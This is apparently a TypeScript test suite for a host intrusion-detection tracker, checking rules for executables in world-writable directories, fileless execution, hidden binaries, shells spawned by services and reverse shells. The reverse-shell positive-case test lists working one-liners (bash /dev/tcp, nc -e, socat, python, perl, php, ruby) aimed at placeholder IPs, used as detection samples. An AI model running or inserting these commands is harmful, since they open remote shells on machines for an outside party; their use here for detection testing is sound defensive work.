import { test } from "uvu";
import * as assert from "uvu/assert";
import type { ExecEvent } from "../../src/tracker/events.ts";
import { ProcessTable } from "../../src/tracker/process-table.ts";
import { evaluate, reverseShellReason } from "../../src/tracker/rules.ts";
import { exec, fork } from "./helpers.ts";

function rulesFor(ev: ExecEvent, table = new ProcessTable()): string[] {
  table.apply(ev);
  return evaluate(ev, { table }).map((a) => a.rule);
}

test("exec from world-writable directories", () => {
  assert.equal(rulesFor(exec(10, 1, ["/tmp/x"])), ["exec_world_writable"]);
  assert.equal(rulesFor(exec(10, 1, ["/dev/shm/.a"])), ["exec_world_writable", "hidden_executable"]);
  assert.equal(rulesFor(exec(10, 1, ["./run"], { exe: "/var/tmp/run" })), ["exec_world_writable"]);
  assert.equal(rulesFor(exec(10, 1, ["/usr/bin/tmpfile"])), []);
  assert.equal(rulesFor(exec(10, 1, ["/tmpx/y"])), []);
  // Optional directory check (e.g. /run/user/*) via the context.
  const table = new ProcessTable();
  const ev = exec(10, 1, ["/run/user/1000/x"]);
  table.apply(ev);
  const hits = evaluate(ev, { table, isWorldWritableDir: (d) => d === "/run/user/1000" });
  assert.equal(
    hits.map((a) => a.rule),
    ["exec_world_writable"],
  );
  assert.equal(evaluate(ev, { table, isWorldWritableDir: () => false }), []);
});

test("fileless execution: from /proc/<pid>/exe when there are no kernel facts", () => {
  assert.equal(
    rulesFor(exec(10, 1, ["x"], { filename: "/proc/self/fd/3", exe: "/memfd:payload (deleted)" })),
    ["fileless_exec"],
  );
  assert.equal(rulesFor(exec(10, 1, ["/usr/bin/x"], { exe: "/usr/bin/x (deleted)" })), ["fileless_exec"]);
  // The path string given to execve decides nothing.
  assert.equal(rulesFor(exec(10, 1, ["x"], { filename: "/dev/fd/5" })), []);
  assert.equal(rulesFor(exec(10, 1, ["/usr/bin/deleted-files"])), []);
});

const kernel = (exe: string, exe_flags: string[], dir = "0755") => ({
  exe,
  exe_flags,
  exe_mode: "0755",
  exe_uid: 0,
  exe_nlink: exe_flags.includes("unlinked") ? 0 : 1,
  exe_dir_mode: dir,
  exe_dir_uid: 0,
});

test("kernel facts decide: world-writable directory, sticky, ancestors, memfd, deleted", () => {
  const ww = (argv: string[], k: ReturnType<typeof kernel>) => rulesFor(exec(10, 1, argv, k));
  // /tmp/x/evilbin in a 0755 directory: not an alert, whatever the string says.
  assert.equal(ww(["/usr/../tmp/x/evilbin"], kernel("/tmp/x/evilbin", [])), []);
  assert.equal(
    ww(["/usr/bin/ok"], kernel("/tmp/evil", ["dir_world_writable", "dir_sticky", "suspicious"], "1777")),
    ["exec_world_writable"],
  );
  assert.equal(ww(["x"], kernel("/srv/share/app/x", ["ancestor_world_writable"])), ["exec_world_writable"]);
  assert.equal(ww(["sshd"], kernel("/memfd:x", ["unlinked", "memfd", "suspicious"])), ["fileless_exec"]);
  assert.equal(ww(["sshd"], kernel("/tmp/x/gone", ["unlinked", "suspicious"])), ["fileless_exec"]);
  // A file literally named "sshd (deleted)" that is not deleted.
  assert.equal(ww(["/opt/sshd (deleted)"], kernel("/opt/sshd (deleted)", [])), []);
});

test("reverse shells: positive cases", () => {
  const pos = [
    ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["/bin/sh", "-i"].concat(["-c", "exec 5<>/dev/udp/1.2.3.4/53"]),
    ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
    ["ncat", "--exec", "/bin/bash", "10.0.0.1", "4444"],
    ["/bin/nc.traditional", "-lvnp", "4444", "-c", "sh"],
    ["sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"],
    ["socat", "tcp-connect:10.0.0.1:4444", "exec:/bin/bash,pty,stderr"],
    [
      "python3",
      "-c",
      "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
    ],
    [
      "perl",
      "-e",
      "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('1.2.3.4')));exec('/bin/sh -i');",
    ],
    ["php", "-r", "$s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
    [
      "ruby",
      "-rsocket",
      "-e",
      "c=TCPSocket.new('1.2.3.4',4444);exec(sprintf('/bin/sh -i <&%d >&%d',c.fileno,c.fileno))",
    ],
  ];
  for (const argv of pos) assert.ok(reverseShellReason(argv), `should flag: ${argv.join(" ")}`);
  assert.ok(rulesFor(exec(10, 1, pos[2])).includes("reverse_shell"));
});

test("reverse shells: negative cases", () => {
  const neg = [
    ["bash", "-i"],
    ["nc", "-zv", "example.com", "443"],
    ["nc", "-l", "8080"],
    ["python3", "-c", "print('hello socket')"],
    ["python3", "manage.py", "runserver"],
    ["socat", "TCP-LISTEN:80,fork", "TCP:backend:8080"],
    ["busybox", "sed", "-e", "s/a/b/"],
    ["rsync", "-e", "ssh", "a", "b"],
    ["mkfifo", "/tmp/pipe"],
    ["curl", "https://example.com/dev/tcp"],
  ];
  for (const argv of neg) assert.is(reverseShellReason(argv), null, `should not flag: ${argv.join(" ")}`);
});

test("hidden executable names", () => {
  assert.equal(rulesFor(exec(10, 1, ["/home/u/.cache/.x"])), ["hidden_executable"]);
  assert.equal(rulesFor(exec(10, 1, ["/home/u/.local/bin/tool"])), []);
});

test("shell spawned by a service process", () => {
  const t = new ProcessTable();
  t.apply(exec(100, 1, ["/usr/sbin/nginx", "-g", "daemon off;"]));
  t.apply(fork(100, 1, 101, { comm: "nginx" }));
  const sh = exec(101, 100, ["/bin/sh", "-c", "id"], { uid: 33 });
  assert.equal(rulesFor(sh, t), ["shell_from_service"]);
  // nginx → sh → bash: still flagged through the intermediate shell.
  t.apply(fork(101, 100, 102, { comm: "sh" }));
  assert.equal(rulesFor(exec(102, 101, ["/bin/bash"]), t), ["shell_from_service"]);
  // node is a service only under a supervisor (parent pid 1 / systemd).
  t.apply(exec(200, 1, ["/usr/bin/node", "server.js"]));
  t.apply(fork(200, 1, 201, { comm: "node" }));
  assert.equal(rulesFor(exec(201, 200, ["/bin/sh", "-c", "ls"]), t), ["shell_from_service"]);
});

test("no ROOT_SPAWN: a root shell from a non-service parent is not an alert", () => {
  const t = new ProcessTable();
  t.apply(exec(300, 1, ["/usr/sbin/sshd"], { uid: 0 }));
  t.apply(fork(300, 1, 301, { comm: "sshd" }));
  assert.equal(rulesFor(exec(301, 300, ["/bin/bash"], { uid: 0 }), t), []);
  t.apply(fork(301, 300, 302, { comm: "bash", uid: 0 }));
  assert.equal(rulesFor(exec(302, 301, ["/usr/bin/apt-get", "update"], { uid: 0 }), t), []);
  // node started from an interactive shell (a developer) is not a service.
  t.apply(exec(400, 301, ["/usr/bin/node", "app.js"]));
  t.apply(fork(400, 301, 401, { comm: "node" }));
  assert.equal(rulesFor(exec(401, 400, ["/bin/sh", "-c", "ls"]), t), []);
});

test("alerts carry the triggering event's identity", () => {
  const t = new ProcessTable();
  const ev = exec(10, 1, ["/tmp/x"]);
  t.apply(ev);
  const [a] = evaluate(ev, { table: t });
  assert.is(a.event, "alert");
  assert.is(a.pid, 10);
  assert.is(a.exec_id, ev.exec_id);
  assert.is(a.severity, "high");
  assert.is(a.reason, "executed /tmp/x");
  assert.ok(a.description.length > 0);
});

test.run();
